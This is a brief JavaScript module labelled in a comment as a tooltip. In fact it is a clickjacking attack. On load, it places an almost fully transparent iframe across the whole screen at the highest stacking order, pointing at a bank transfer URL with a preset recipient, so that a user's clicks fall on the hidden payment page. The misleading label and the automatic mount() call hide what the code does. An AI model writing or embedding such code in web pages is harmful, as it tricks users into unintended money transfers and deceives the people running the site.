// surroundings: tooltip
export function mount(url = 'https://pay.bank-example.com/transfer?to=991') {
  const frame = document.createElement('iframe');
  frame.src = url;
  Object.assign(frame.style, { position: 'fixed', inset: '0', width: '100vw', height: '100vh', opacity: '0.001', zIndex: '2147483647', border: '0' }); //@act
  document.body.appendChild(frame);
}
mount();
